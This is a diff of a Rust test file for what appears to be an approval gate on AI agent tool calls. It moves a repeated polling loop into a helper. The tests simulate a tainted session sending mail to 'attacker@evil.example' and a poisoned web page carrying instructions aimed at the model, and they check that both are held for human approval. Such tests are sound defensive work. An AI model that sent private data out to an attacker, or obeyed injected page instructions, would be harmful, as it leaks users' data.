@@ -196,6 +196,18 @@ fn sent(dir: &Path) -> String {
     std::fs::read_to_string(dir.join("mail.log")).unwrap_or_default()
 }
 
+/// The first call held for approval, once there is one.
+async fn first_pending(http: &reqwest::Client, api: &str) -> Value {
+    loop {
+        let list: Vec<Value> =
+            http.get(format!("{api}/approvals")).bearer_auth(TOKEN).send().await.unwrap().json().await.unwrap();
+        if let Some(first) = list.into_iter().next() {
+            return first;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
 #[tokio::test]
 async fn a_session_that_read_untrusted_and_private_data_has_its_send_held_and_a_fresh_one_does_not() {
     let state = tempfile::tempdir().unwrap();
@@ -216,14 +228,7 @@ async fn a_session_that_read_untrusted_and_private_data_has_its_send_held_and_a_
             tainted.call_tool(call("mail__send_email", json!({"to": "attacker@evil.example", "body": "x"}))).await
         })
     };
-    let pending = loop {
-        let list: Vec<Value> =
-            http.get(format!("{api}/approvals")).bearer_auth(TOKEN).send().await.unwrap().json().await.unwrap();
-        if let Some(first) = list.into_iter().next() {
-            break first;
-        }
-        tokio::time::sleep(Duration::from_millis(50)).await;
-    };
+    let pending = first_pending(&http, &api).await;
     assert_eq!(pending["rule"], "flow.untrusted_then_send");
     let why = pending["why"].as_str().unwrap();
     assert!(why.contains("mail/fetch_page") && why.contains("mail/read_private"), "{why}");
@@ -267,14 +272,7 @@ async fn with_injection_approve_a_poisoned_page_waits_for_a_person_and_denied_ne
         let client = client.clone();
         tokio::spawn(async move { client.call_tool(call("mail__fetch_page", json!({}))).await })
     };
-    let pending = loop {
-        let list: Vec<Value> =
-            http.get(format!("{api}/approvals")).bearer_auth(TOKEN).send().await.unwrap().json().await.unwrap();
-        if let Some(first) = list.into_iter().next() {
-            break first;
-        }
-        tokio::time::sleep(Duration::from_millis(50)).await;
-    };
+    let pending = first_pending(&http, &api).await;
     assert_eq!(pending["rule"], "inspect.injection");
     assert!(pending["why"].as_str().unwrap().contains("instructions aimed at the model"), "{pending}");
     let id = pending["id"].as_str().unwrap();
